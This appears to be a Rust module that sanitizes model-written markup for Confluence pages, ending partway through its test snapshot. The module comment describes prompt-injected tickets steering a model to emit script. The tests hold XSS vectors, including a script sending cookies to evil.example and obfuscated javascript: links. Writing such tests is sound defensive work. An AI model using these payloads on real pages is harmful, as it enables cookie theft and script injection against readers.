//! Model output made safe to write into a Confluence page.
//!
//! What a model writes is untrusted: a prompt-injected ticket can make it emit a `<script>`, an
//! `onerror` handler, a `javascript:` link or an `html` macro, and Confluence would store it in a
//! page every reader opens. So generated markup never reaches a page as written. This module
//! re-parses it and writes a new document from the parsed events with its own serializer: only
//! the elements, attributes and macros of an allow-list survive, and every name, value and text
//! is re-escaped on the way out, so the output is well formed whatever the input was. No string
//! of the input is ever pasted into the output unchecked.
//!
//! The rules:
//! - Elements of the allow-list ([`ALLOWED_ELEMENTS`]) are kept with the attributes allowed for
//!   them; names are written in lowercase, values decoded, checked and re-escaped.
//! - Elements whose content is code or a form ([`DROPPED_ELEMENTS`], also under any prefix such as
//!   `svg:script`) disappear with everything inside them.
//! - Any other element is removed but its text is kept (escaped): nothing a person could read is
//!   lost.
//! - A macro (`ac:structured-macro`) is kept only when its `ac:name` is one of [`ALLOWED_MACROS`].
//!   A macro that is not allowed is unwrapped: its rich-text body stays as page content, while its
//!   parameters and plain-text body (the raw input of, say, an `html` macro) are dropped.
//!   `ac:parameter`, `ac:plain-text-body` and `ac:rich-text-body` are kept only directly inside a
//!   kept macro.
//! - Links (`a@href`) keep only `http:`, `https:`, `mailto:` and relative URLs, judged after
//!   decoding entities and removing whitespace and control characters, so `jav&#x09;ascript:`
//!   and `&#106;avascript:` are caught. Every event-handler, `style` (except a plain width on
//!   `col`), `srcdoc`, `formaction` and other attribute not on the list is removed.
//! - CDATA is kept only inside `ac:plain-text-body` (code macros), re-emitted with any `]]>`
//!   split across two sections; elsewhere its content becomes escaped text.
//! - Comments, processing instructions and doctypes are removed. Characters XML forbids (most
//!   C0 controls, U+FFFE, U+FFFF) are removed; entities the parser resolves are written back as
//!   they were, unknown ones as literal text.
//!
//! Input that is not well-formed storage format (see [`crate::storage::parse_page`]) is an
//! error, never a guess at what was meant. The output always parses again with `parse_page`.

use quick_xml::events::{BytesStart, Event};

use crate::storage::{bom_len, decode_entities, reader_for, resolve_reference, split_page};
use crate::types::{DocumentError, MAX_DOCUMENT_BYTES};

/// Elements that are kept (with their allowed attributes).
pub const ALLOWED_ELEMENTS: &[&str] = &[
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "colgroup",
    "col",
    "pre",
    "code",
    "blockquote",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "s",
    "del",
    "ins",
    "sub",
    "sup",
    "br",
    "hr",
    "span",
    "a",
    "time",
    "ac:structured-macro",
    "ac:parameter",
    "ac:rich-text-body",
    "ac:plain-text-body",
    "ac:link",
    "ac:link-body",
    "ac:plain-text-link-body",
    "ri:page",
    "ri:user",
    "ri:attachment",
    "ac:emoticon",
    "ac:task-list",
    "ac:task",
    "ac:task-id",
    "ac:task-status",
    "ac:task-body",
    "ac:placeholder",
    "ac:inline-comment-marker",
];

/// Macros (`ac:structured-macro ac:name=…`) that are kept.
pub const ALLOWED_MACROS: &[&str] = &[
    "info", "note", "warning", "tip", "panel", "code", "expand", "status", "jira", "anchor", "toc",
    "excerpt", "details", "noformat",
];

/// Elements removed together with everything inside them (matched on the local name too, so a
/// prefix such as `svg:` or `x:` does not smuggle one through).
pub const DROPPED_ELEMENTS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "meta",
    "link",
    "base",
    "head",
    "title",
    "xmp",
    "plaintext",
    "audio",
    "video",
    "canvas",
];

/// URL schemes a link may use; anything else with a scheme is removed.
const ALLOWED_SCHEMES: &[&str] = &["http", "https", "mailto"];

/// Rewrites generated markup as safe storage format (see the module documentation).
///
/// Fails with `InvalidMarkup` when the input is not well-formed storage format or has unreadable
/// attributes, and with `TooLarge` when the input, or the escaped output, exceeds
/// [`MAX_DOCUMENT_BYTES`].
pub fn sanitize(storage: &str) -> Result<String, DocumentError> {
    split_page(storage)?;
    let mut reader = reader_for(storage);
    let mut writer = Writer::with_capacity(storage.len());
    let bom = bom_len(storage) as u64;
    loop {
        let at = reader.buffer_position() + bom;
        match reader.read_event() {
            Ok(Event::Eof) => break,
            Ok(event) => writer.event(&event, at)?,
            Err(error) => {
                return Err(invalid(format!(
                    "expected well-formed markup at byte {at}: {}",
                    error.to_string().to_lowercase()
                )));
            }
        }
    }
    // A byte order mark that ends up first (after removed content) would be skipped as one by
    // the next reader: drop it now, so sanitizing the output again changes nothing.
    let out = match writer.out.trim_start_matches('\u{feff}') {
        trimmed if trimmed.len() < writer.out.len() => trimmed.to_owned(),
        _ => writer.out,
    };
    if out.len() > MAX_DOCUMENT_BYTES {
        return Err(DocumentError::TooLarge(MAX_DOCUMENT_BYTES as u64));
    }
    Ok(out)
}

/// What happens to an open element and its content.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Frame {
    /// Written out under this canonical name.
    Keep(&'static str),
    /// Tags removed, content kept.
    Unwrap,
    /// Tags and content removed.
    Drop,
}

/// The serializer: a stack of open elements and the output so far.
struct Writer {
    out: String,
    stack: Vec<Frame>,
    dropping: usize,
    /// The value read so far of the color parameter being written ([`COLOR_PARAMETERS`]): held
    /// back until its end, and written only if it is a color.
    color: Option<String>,
}

/// Macro parameters whose value Confluence puts into a style: only a color may pass, never other
/// CSS (`red;background-image:url(…)`).
const COLOR_PARAMETERS: &[&str] = &["bgColor", "titleBGColor", "titleColor", "borderColor"];

/// `#` and 3, 4, 6 or 8 hex digits, or a color name (1 to 20 ASCII letters).
fn is_color(value: &str) -> bool {
    match value.strip_prefix('#') {
        Some(hex) => matches!(hex.len(), 3 | 4 | 6 | 8) && hex.bytes().all(|b| b.is_ascii_hexdigit()),
        None => (1..=20).contains(&value.len()) && value.bytes().all(|b| b.is_ascii_alphabetic()),
    }
}

impl Writer {
    fn with_capacity(capacity: usize) -> Self {
        Writer {
            out: String::with_capacity(capacity),
            stack: Vec::new(),
            dropping: 0,
            color: None,
        }
    }

    fn event(&mut self, event: &Event<'_>, at: u64) -> Result<(), DocumentError> {
        match event {
            Event::Start(tag) => self.start(tag, at),
            Event::Empty(tag) => self.empty(tag, at),
            Event::End(tag) => {
                self.end(&lowercase_name(tag.name().as_ref(), at)?);
                Ok(())
            }
            Event::Text(text) => {
                let text = utf8(text, at)?;
                self.text(text);
                Ok(())
            }
            Event::CData(data) => {
                let data = utf8(data, at)?;
                self.cdata(data);
                Ok(())
            }
            Event::GeneralRef(reference) => {
                let name = utf8(reference, at)?;
                self.reference(name);
                Ok(())
            }
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) | Event::DocType(_) | Event::Eof => {
                Ok(())
            }
        }
    }

    fn start(&mut self, tag: &BytesStart<'_>, at: u64) -> Result<(), DocumentError> {
        let name = lowercase_name(tag.name().as_ref(), at)?;
        if crate::storage::is_void(&name) {
            return self.empty(tag, at);
        }
        // Nothing but text belongs in a color parameter.
        let frame = if self.color.is_some() { Frame::Drop } else { self.decide(&name, tag, at)? };
        if let Frame::Keep(canonical) = frame {
            self.open_tag(canonical, tag, at, false)?;
            if canonical == "ac:parameter" && allowed_attributes(canonical, tag, at)?.iter().any(|(key, value)| *key == "ac:name" && COLOR_PARAMETERS.contains(&value.as_str())) {
                self.color = Some(String::new());
            }
        }
        if frame == Frame::Drop {
            self.dropping += 1;
        }
        self.stack.push(frame);
        Ok(())
    }

    fn empty(&mut self, tag: &BytesStart<'_>, at: u64) -> Result<(), DocumentError> {
        let name = lowercase_name(tag.name().as_ref(), at)?;
        if let Frame::Keep(canonical) = self.decide(&name, tag, at)? {
            self.open_tag(canonical, tag, at, true)?;
        }
        Ok(())
    }

    /// Closes the innermost element. The input was checked to be balanced, so the only closing
    /// tags without a matching open element are those of void elements, which are ignored.
    fn end(&mut self, name: &str) {
        if crate::storage::is_void(name) {
            return;
        }
        match self.stack.pop() {
            Some(Frame::Keep(canonical)) => {
                if let Some(value) = self.color.take().filter(|value| is_color(value.trim())) {
                    push_escaped(&mut self.out, value.trim(), false);
                }
                self.out.push_str("</");
                self.out.push_str(canonical);
                self.out.push('>');
            }
            Some(Frame::Drop) => self.dropping = self.dropping.saturating_sub(1),
            Some(Frame::Unwrap) | None => {}
        }
    }

    fn text(&mut self, text: &str) {
        if self.dropping > 0 {
            return;
        }
        match &mut self.color {
            Some(value) => value.push_str(text),
            None => push_escaped(&mut self.out, text, false),
        }
    }

    fn cdata(&mut self, data: &str) {
        if self.dropping > 0 {
            return;
        }
        if let Some(value) = &mut self.color {
            value.push_str(data);
            return;
        }
        if self.stack.last() == Some(&Frame::Keep("ac:plain-text-body")) {
            push_cdata(&mut self.out, data);
        } else {
            push_escaped(&mut self.out, data, false);
        }
    }

    /// An entity or character reference: written back as it was when it stands for characters
    /// XML allows, else as literal text.
    fn reference(&mut self, name: &str) {
        if self.dropping > 0 {
            return;
        }
        if let Some(value) = &mut self.color {
            // No color is written with a reference: kept as is, the value is no color.
            value.push('&');
            value.push_str(name);
            return;
        }
        let resolved = resolve_reference(name).filter(|text| text.chars().all(is_xml_char));
        if let Some(text) = resolved.as_deref().filter(|_| NOT_IN_XHTML1.contains(&name)) {
            for c in text.chars() {
                self.out.push_str(&format!("&#x{:X};", u32::from(c)));
            }
        } else if resolved.is_some() {
            // `&#X3C;` resolves here but is not XML (only a lower-case `x` is): written `&#x3C;`.
            self.out.push('&');
            match name.strip_prefix("#X") {
                Some(hex) => {
                    self.out.push_str("#x");
                    self.out.push_str(hex);
                }
                None => self.out.push_str(name),
            }
            self.out.push(';');
        } else {
            self.out.push_str("&amp;");
            push_escaped(&mut self.out, name, false);
            self.out.push(';');
        }
    }

    /// What to do with an element, given the element it is in.
    fn decide(&self, name: &str, tag: &BytesStart<'_>, at: u64) -> Result<Frame, DocumentError> {
        let allowed = ALLOWED_ELEMENTS
            .iter()
            .copied()
            .find(|known| *known == name);
        if self.dropping > 0 || (allowed.is_none() && is_dropped(name)) {
            return Ok(Frame::Drop);
        }
        let Some(canonical) = allowed else {
            return Ok(Frame::Unwrap);
        };
        let in_kept_macro = self.stack.last() == Some(&Frame::Keep("ac:structured-macro"));
        let frame = match canonical {
            "ac:structured-macro" if !is_allowed_macro(tag, at)? => Frame::Unwrap,
            "ac:parameter" | "ac:plain-text-body" if !in_kept_macro => Frame::Drop,
            "ac:rich-text-body" if !in_kept_macro => Frame::Unwrap,
            _ => Frame::Keep(canonical),
        };
        Ok(frame)
    }

    /// Writes `<name attributes>` (or `<name attributes />`) with the allowed attributes.
    fn open_tag(
        &mut self,
        canonical: &'static str,
        tag: &BytesStart<'_>,
        at: u64,
        empty: bool,
    ) -> Result<(), DocumentError> {
        self.out.push('<');
        self.out.push_str(canonical);
        for (key, value) in allowed_attributes(canonical, tag, at)? {
            self.out.push(' ');
            self.out.push_str(key);
            self.out.push_str("=\"");
            push_escaped(&mut self.out, &value, true);
            self.out.push('"');
        }
        self.out.push_str(if empty || crate::storage::is_void(canonical) {
            " />"
        } else {
            ">"
        });
        Ok(())
    }
}

/// Entity names the storage reader accepts (HTML5 added them) but XHTML 1.0, the set
/// Confluence's storage format knows, does not define: generated content writes the character
/// reference instead (`&check;` → `&#x2713;`).
const NOT_IN_XHTML1: &[&str] = &["check"];

/// How an attribute's value is checked.
#[derive(Debug, Clone, Copy)]
enum Rule {
    /// Any text (re-escaped).
    Text,
    /// A URL with an allowed scheme, or a relative one.
    Url,
    /// Up to six digits.
    Digits,
    /// Letters, digits and `_.:-` (macro ids, account ids, parameter names, space keys).
    Token,
    /// Class names: letters, digits, `_`, `-` and spaces.
    Classes,
    /// A plain `width: N%` or `width: Npx` declaration.
    Width,
    /// A date or time: digits and `-:T.+Z`.
    Datetime,
    /// A macro name, written in lowercase (already checked against [`ALLOWED_MACROS`]).
    MacroName,
}

/// The rule for an attribute of an element, or none when the attribute is not allowed there.
fn rule_for(element: &str, attribute: &str) -> Option<Rule> {
    let rule = match (element, attribute) {
        ("a", "href") => Rule::Url,
        ("a", "title") => Rule::Text,
        ("th" | "td", "colspan" | "rowspan") => Rule::Digits,
        ("ol", "start") => Rule::Digits,
        ("col", "span") => Rule::Digits,
        ("col", "style") => Rule::Width,
        ("table", "class") => Rule::Classes,
        ("table", "data-layout") => Rule::Token,
        ("time", "datetime") => Rule::Datetime,
        ("ac:structured-macro", "ac:name") => Rule::MacroName,
        ("ac:structured-macro", "ac:schema-version") => Rule::Digits,
        ("ac:structured-macro", "ac:macro-id") => Rule::Token,
        ("ac:parameter", "ac:name") => Rule::Token,
        ("ac:link", "ac:anchor") => Rule::Text,
        ("ri:page", "ri:content-title") => Rule::Text,
        ("ri:page" | "ri:attachment", "ri:space-key") => Rule::Token,
        ("ri:user", "ri:account-id" | "ri:userkey") => Rule::Token,
        ("ri:attachment", "ri:filename") => Rule::Text,
        ("ac:emoticon", "ac:name" | "ac:emoji-id") => Rule::Token,
        ("ac:emoticon", "ac:emoji-shortname" | "ac:emoji-fallback") => Rule::Text,
        ("ac:inline-comment-marker", "ac:ref") => Rule::Token,
        ("ri:page" | "ri:attachment", "ri:version-at-save") => Rule::Digits,
        ("ac:link", "ac:card-appearance") => Rule::Token,
        _ => return None,
    };
    Some(rule)
}

/// The attributes of a kept element that pass their rule, in input order, first occurrence of
/// each name only, as (canonical name, decoded value).
fn allowed_attributes(
    element: &str,
    tag: &BytesStart<'_>,
    at: u64,
) -> Result<Vec<(&'static str, String)>, DocumentError> {
    let mut kept: Vec<(&'static str, String)> = Vec::new();
    let mut attributes = tag.html_attributes();
    attributes.with_checks(false);
    for attribute in attributes {
        let attribute = attribute.map_err(|error| {
            invalid(format!(
                "expected well-formed attributes in the tag at byte {at}: {}",
                error.to_string().to_lowercase()
            ))
        })?;
        let key = String::from_utf8_lossy(attribute.key.as_ref()).to_ascii_lowercase();
        let Some((canonical, rule)) = canonical_attribute(element, &key) else {
            continue;
        };
        if kept.iter().any(|(name, _)| *name == canonical) {
            continue;
        }
        let raw = String::from_utf8_lossy(&attribute.value);
        let value: String = decode_entities(&raw)
            .chars()
            .filter(|c| is_xml_char(*c))
            .collect();
        if let Some(value) = checked(rule, value) {
            kept.push((canonical, value));
        }
    }
    Ok(kept)
}

/// The static spelling of an allowed attribute name, with its rule.
fn canonical_attribute(element: &str, key: &str) -> Option<(&'static str, Rule)> {
    const NAMES: &[&str] = &[
        "href",
        "title",
        "colspan",
        "rowspan",
        "start",
        "span",
        "style",
        "class",
        "data-layout",
        "datetime",
        "ac:name",
        "ac:schema-version",
        "ac:macro-id",
        "ac:anchor",
        "ac:emoji-id",
        "ac:emoji-shortname",
        "ac:emoji-fallback",
        "ac:ref",
        "ri:content-title",
        "ri:space-key",
        "ri:account-id",
        "ri:userkey",
        "ri:filename",
        "ri:version-at-save",
        "ac:card-appearance",
    ];
    let canonical = NAMES.iter().copied().find(|name| *name == key)?;
    Some((canonical, rule_for(element, canonical)?))
}

/// The value to write for an attribute under `rule`, or none when it must be removed.
fn checked(rule: Rule, value: String) -> Option<String> {
    let ok = match rule {
        Rule::Text => true,
        Rule::Url => is_safe_url(&value),
        Rule::Digits => {
            !value.is_empty() && value.len() <= 6 && value.bytes().all(|b| b.is_ascii_digit())
        }
        Rule::Token => {
            value.len() <= 256
                && value
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b':' | b'-'))
        }
        Rule::Classes => value
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b' ')),
        Rule::Width => is_plain_width(&value),
        Rule::Datetime => {
            value.len() <= 64
                && value.bytes().all(|b| {
                    b.is_ascii_digit() || matches!(b, b'-' | b':' | b'T' | b'.' | b'+' | b'Z')
                })
        }
        Rule::MacroName => return Some(value.trim().to_ascii_lowercase()),
    };
    ok.then_some(value)
}

/// Whether a macro's `ac:name` is on the allow-list (compared trimmed and in lowercase).
fn is_allowed_macro(tag: &BytesStart<'_>, at: u64) -> Result<bool, DocumentError> {
    let names = allowed_attributes("ac:structured-macro", tag, at)?;
    Ok(names
        .iter()
        .find(|(key, _)| *key == "ac:name")
        .is_some_and(|(_, name)| ALLOWED_MACROS.contains(&name.as_str())))
}

/// Whether a decoded URL may stay in a link: `http:`, `https:`, `mailto:` or relative (no scheme
/// at all). The scheme is read as a browser would: after removing every whitespace and control
/// character, and after decoding references again, also those written without `;`.
pub fn is_safe_url(url: &str) -> bool {
    let normalized: String = lenient_decode(url)
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .flat_map(char::to_lowercase)
        .collect();
    if has_reference_left(&normalized) {
        return false;
    }
    let scheme_end = normalized.find([':', '/', '?', '#']);
    match scheme_end {
        Some(index) if normalized.get(index..index + 1) == Some(":") => normalized
            .get(..index)
            .is_some_and(|scheme| ALLOWED_SCHEMES.contains(&scheme)),
        _ => true,
    }
}

/// Whether text still holds something shaped like a character reference (`&#…`, `&name;`)
/// after decoding: a layer that decodes once more could turn it into a scheme.
fn has_reference_left(text: &str) -> bool {
    text.match_indices('&').any(|(index, _)| {
        let after = text.get(index + 1..).unwrap_or_default();
        let name_length = after.bytes().take_while(u8::is_ascii_alphanumeric).count();
        after.starts_with('#')
            || (name_length > 0 && after.as_bytes().get(name_length) == Some(&b';'))
    })
}

/// Decodes numeric references a browser would decode in an attribute even without their `;`
/// (`&#106avascript:`), after the strict decoding the parser already did.
fn lenient_decode(value: &str) -> String {
    let strict = decode_entities(value);
    let mut out = String::with_capacity(strict.len());
    let mut rest = strict.as_str();
    while let Some((before, after)) = rest.split_once("&#") {
        out.push_str(before);
        let (digits, radix) = match after.strip_prefix(['x', 'X']) {
            Some(hex) => (hex, 16),
            None => (after, 10),
        };
        let length = digits.chars().take_while(|c| c.is_digit(radix)).count();
        let decoded = digits
            .get(..length.min(8))
            .filter(|number| !number.is_empty())
            .and_then(|number| u32::from_str_radix(number, radix).ok())
            .and_then(char::from_u32);
        match decoded {
            Some(c) => {
                out.push(c);
                rest = digits.get(length..).unwrap_or_default();
                rest = rest.strip_prefix(';').unwrap_or(rest);
            }
            None => {
                out.push_str("&#");
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Whether a `col@style` is exactly one `width` declaration in `%` or `px`.
fn is_plain_width(style: &str) -> bool {
    let declaration = style.trim().trim_end_matches(';').trim();
    let Some((property, value)) = declaration.split_once(':') else {
        return false;
    };
    let value = value.trim();
    let number = value
        .strip_suffix('%')
        .or_else(|| value.strip_suffix("px"))
        .unwrap_or("x");
    property.trim().eq_ignore_ascii_case("width")
        && !number.is_empty()
        && number.len() <= 12
        && number.bytes().all(|b| b.is_ascii_digit() || b == b'.')
}

/// Whether an element is removed with its content (by full or local name).
fn is_dropped(name: &str) -> bool {
    let local = name.rsplit(':').next().unwrap_or(name);
    DROPPED_ELEMENTS.contains(&name) || DROPPED_ELEMENTS.contains(&local)
}

/// Whether XML 1.0 allows a character in a document.
fn is_xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r') || (c >= ' ' && c != '\u{fffe}' && c != '\u{ffff}')
}

/// Appends text escaped for element content (`&<>`) or, with `quotes`, an attribute value
/// (also `"`), without the characters XML forbids.
fn push_escaped(out: &mut String, text: &str, quotes: bool) {
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' if quotes => out.push_str("&quot;"),
            c if is_xml_char(c) => out.push(c),
            _ => {}
        }
    }
}

/// Appends a CDATA section; a `]]>` inside is split across two sections.
fn push_cdata(out: &mut String, data: &str) {
    let clean: String = data.chars().filter(|c| is_xml_char(*c)).collect();
    out.push_str("<![CDATA[");
    out.push_str(&clean.replace("]]>", "]]]]><![CDATA[>"));
    out.push_str("]]>");
}

/// The lowercase name of a tag (the input was already checked, so this fails only on bytes
/// that are not UTF-8).
fn lowercase_name(raw: &[u8], at: u64) -> Result<String, DocumentError> {
    Ok(utf8(raw, at)?.to_ascii_lowercase())
}

fn utf8(bytes: &[u8], at: u64) -> Result<&str, DocumentError> {
    std::str::from_utf8(bytes).map_err(|_| invalid(format!("expected utf-8 text at byte {at}")))
}

fn invalid(message: String) -> DocumentError {
    DocumentError::InvalidMarkup(message)
}

#[cfg(test)]
mod tests {
    #[cfg(js_engine)]
    use wasm_bindgen_test::wasm_bindgen_test as test;
    use super::*;
    use crate::storage::parse_page;
    use expect_test::expect;
    #[cfg(not(js_engine))]
    #[cfg(not(js_engine))]
    use proptest::prelude::*;

    const PAGE: &str = include_str!("../../examples/page.xml");
    const VECTORS: &str = include_str!("../../tests/xss/vectors.txt");

    /// What the host's offline provider renders for a ticket (headings, a facts table, a code
    /// macro whose CDATA holds a split `]]>`, lists, a quote, a rule, links to related pages).
    const OFFLINE_SECTION: &str = concat!(
        "<h2>PAY-142: Refund webhook retries duplicate &quot;ledger&quot; entries</h2>",
        "<table><tbody><tr><th>Status</th><td>In Progress</td></tr><tr><th>Type</th><td>Bug</td></tr>",
        "<tr><th>Priority</th><td>—</td></tr><tr><th>Labels</th><td>payments, ledger &amp; cash</td></tr></tbody></table>",
        "<h3>Description</h3><h4>Cause</h4><p>Retries fire when a &lt;timeout&gt; hits [EMAIL_1].</p>",
        "<ac:structured-macro ac:name=\"code\" ac:schema-version=\"1\"><ac:parameter ac:name=\"language\">rust</ac:parameter>",
        "<ac:plain-text-body><![CDATA[if a < b && c > d { x[y[0]]]]><![CDATA[> }]]></ac:plain-text-body></ac:structured-macro>",
        "<ol><li>one</li><li>two</li></ol><blockquote><p>quoted</p></blockquote><hr />",
        "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>",
        "<h3>Latest comments</h3><ul><li><strong>Jane</strong> (2024-05-01): fixed in review</li></ul>",
        "<h3>Related pages</h3><ul><li><ac:link><ri:page ri:content-title=\"Ledger &amp; &quot;cash&quot;\" /></ac:link></li></ul>",
        "<p><em>Maintained by Sync-o from PAY-142. Edits inside this section are kept and merged.</em></p>",
    );

    fn clean(input: &str) -> String {
        match sanitize(input) {
            Ok(output) => output,
            Err(error) => panic!("expected {input:?} to be sanitized, got {error}"),
        }
    }

    fn vectors() -> impl Iterator<Item = &'static str> {
        VECTORS.lines().filter(|line| !line.trim().is_empty())
    }

    /// A URL as a browser would read its scheme: references decoded, whitespace and controls
    /// removed, lowercase.
    fn normalized_url(value: &str) -> String {
        lenient_decode(value)
            .chars()
            .filter(|c| !c.is_whitespace() && !c.is_control())
            .flat_map(char::to_lowercase)
            .collect()
    }

    /// The output without its CDATA sections: what a browser could read as markup. (Inside a
    /// code body's CDATA, `<script>` is code shown as text.)
    fn outside_cdata(output: &str) -> String {
        let mut rest = output;
        let mut out = String::new();
        while let Some((before, after)) = rest.split_once("<![CDATA[") {
            out.push_str(before);
            rest = after.split_once("]]>").map_or("", |(_, tail)| tail);
        }
        out.push_str(rest);
        out
    }

    /// Every reason an output is unsafe, empty when it is safe.
    fn hazards(output: &str) -> Vec<String> {
        let mut found = Vec::new();
        if outside_cdata(output)
            .to_ascii_lowercase()
            .contains("<script")
        {
            found.push("a <script tag outside cdata".to_owned());
        }
        if let Err(error) = parse_page(output) {
            found.push(format!("output does not parse: {error}"));
        }
        let mut reader = reader_for(output);
        loop {
            match reader.read_event() {
                Ok(Event::Start(tag) | Event::Empty(tag)) => found.extend(tag_hazards(&tag)),
                Ok(Event::Eof) => break,
                Ok(_) => {}
                Err(error) => {
                    found.push(format!("unreadable output: {error}"));
                    break;
                }
            }
        }
        found
    }

    fn tag_hazards(tag: &BytesStart<'_>) -> Vec<String> {
        let name = String::from_utf8_lossy(tag.name().as_ref()).into_owned();
        let mut found = Vec::new();
        if !ALLOWED_ELEMENTS.contains(&name.as_str()) {
            found.push(format!("disallowed element {name}"));
        }
        for attribute in tag.attributes() {
            let Ok(attribute) = attribute else {
                found.push(format!("unreadable attribute in {name}"));
                continue;
            };
            let key = String::from_utf8_lossy(attribute.key.as_ref()).to_ascii_lowercase();
            let value = decode_entities(&String::from_utf8_lossy(&attribute.value));
            let url = normalized_url(&value);
            if key.starts_with("on") {
                found.push(format!("event handler {key}"));
            }
            if ["javascript:", "data:", "vbscript:"]
                .iter()
                .any(|s| url.starts_with(s))
            {
                found.push(format!("dangerous url in {key}: {value}"));
            }
            if key == "style" && (name != "col" || !is_plain_width(&value)) {
                found.push(format!("style on {name}: {value}"));
            }
            if name == "ac:structured-macro"
                && key == "ac:name"
                && !ALLOWED_MACROS.contains(&value.as_str())
            {
                found.push(format!("disallowed macro {value}"));
            }
        }
        found
    }

    #[test]
    fn a_panel_color_parameter_keeps_a_color_and_nothing_else() {
        let panel = |param: &str, value: &str| format!(r#"<ac:structured-macro ac:name="panel"><ac:parameter ac:name="{param}">{value}</ac:parameter><ac:rich-text-body><p>x</p></ac:rich-text-body></ac:structured-macro>"#);
        let kept = |param: &str, value: &str| sanitize(&panel(param, value)).unwrap().contains(&format!(r#"<ac:parameter ac:name="{param}">{value}</ac:parameter>"#));
        assert!(kept("bgColor", "#deebff") && kept("titleColor", "red") && kept("borderColor", "#FFF"));
        for hostile in ["red;background-image:url(https://evil.example/t.png)", "expression(alert(1))", "#12345", "&#114;ed", "<b>red</b>", "re<b>x</b>d;x"] {
            let out = sanitize(&panel("bgColor", hostile)).unwrap();
            assert!(out.contains(r#"<ac:parameter ac:name="bgColor"></ac:parameter>"#), "{hostile}: {out}");
        }
        assert!(kept("title", "Any text; even url(x)"), "other parameters are text as before");
    }

    #[test]
    fn a_hex_reference_with_a_capital_x_is_written_as_xml_allows() {
        assert_eq!(sanitize("<p>&#X3C;b&#X3E;</p>").unwrap(), "<p>&#x3C;b&#x3E;</p>");
    }

    #[test]
    fn an_entity_outside_xhtml_1_is_written_as_a_character_reference() {
        assert_eq!(
            sanitize("<p>&check; done &amp; &mdash; &nbsp;ok</p>").unwrap(),
            "<p>&#x2713; done &amp; &mdash; &nbsp;ok</p>"
        );
    }

    #[test]
    fn the_vector_file_holds_at_least_sixty_vectors() {
        assert!(vectors().count() >= 60, "{}", vectors().count());
    }

    #[test]
    fn every_xss_vector_comes_out_harmless_or_is_refused_as_malformed() {
        let mut refused = String::new();
        for vector in vectors() {
            for input in [vector.to_owned(), format!("<p>{vector}</p>")] {
                match sanitize(&input) {
                    Ok(output) => {
                        let hazards = hazards(&output);
                        assert!(hazards.is_empty(), "{input}\n→ {output}\n{hazards:?}");
                        assert_eq!(
                            clean(&output),
                            output,
                            "sanitizing {input} again changed it"
                        );
                    }
                    Err(DocumentError::InvalidMarkup(_)) => {
                        refused.push_str(&input);
                        refused.push('\n');
                    }
                    Err(error) => panic!("{input}: unexpected {error}"),
                }
            }
        }
        expect![[r#"
            <scr<script>ipt>alert(1)</script>
            <p><scr<script>ipt>alert(1)</script></p>
            <script>alert(1)
            <p><script>alert(1)</p>
            <p>unclosed <b>bold</p>
            <p><p>unclosed <b>bold</p></p>
        "#]]
        .assert_eq(&refused);
    }

    #[test]
    fn each_vector_is_rewritten_as_the_snapshot_shows() {
        let outputs: String = vectors()
            .map(|vector| match sanitize(vector) {
                Ok(output) => format!("{vector}\n→ {output}\n"),
                Err(error) => format!("{vector}\n✗ {error}\n"),
            })
            .collect();
        expect![[r##"
            <script>alert('XSS')</script>
            → 
            <SCRIPT>alert(1)</SCRIPT>
            → 
            <ScRiPt>alert(1)</sCrIpT>
            → 
            <script src="https://evil.example/xss.js"></script>
            → 
            <script type="text/javascript">document.location='https://evil.example/?c='+document.cookie</script>
            → 
            <x:script>alert(1)</x:script>
            → 
            <svg:script>alert(1)</svg:script>
            → 
            <script><![CDATA[alert(1)]]></script>
            → 
            <img src="x" onerror="alert(1)" />
            → 
            <IMG SRC="javascript:alert('XSS');">
            → 
            <img src=x onerror=alert(1)>
            → 
            <img src="#" onmouseover="alert('xxs')" />
            → 
            <img src="/" onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;" />
            → 
            <svg onload="alert(1)"></svg>
            → 
            <svg><g onload="alert(1)"></g><circle r="10" /></svg>
            → 
            <math><mtext><script>alert(1)</script></mtext></math>
            → 
            <body onload="alert(1)">text</body>
            → text
            <p onclick="alert(1)">click me</p>
            → <p>click me</p>
            <p OnMouseOver="alert(1)">hover</p>
            → <p>hover</p>
            <strong onfocus="alert(1)" tabindex="1">focus</strong>
            → <strong>focus</strong>
            <a href="javascript:alert(1)">link</a>
            → <a>link</a>
            <a href="JaVaScRiPt:alert(1)">link</a>
            → <a>link</a>
            <a href=" javascript:alert(1)">leading space</a>
            → <a>leading space</a>
            <a href="java	script:alert(1)">literal tab</a>
            → <a>literal tab</a>
            <a href="jav&#x09;ascript:alert(1)">hex tab</a>
            → <a>hex tab</a>
            <a href="jav&#x0A;ascript:alert(1)">hex newline</a>
            → <a>hex newline</a>
            <a href="jav&#x0D;ascript:alert(1)">hex return</a>
            → <a>hex return</a>
            <a href="jav&#10;ascript:alert(1)">decimal newline</a>
            → <a>decimal newline</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal</a>
            → <a>decimal</a>
            <a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">padded no semicolons</a>
            → <a>padded no semicolons</a>
            <a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A">hex no semicolons</a>
            → <a>hex no semicolons</a>
            <a href="javascript&#58;alert(1)">encoded colon</a>
            → <a>encoded colon</a>
            <a href="javascript&colon;alert(1)">named colon</a>
            → <a>named colon</a>
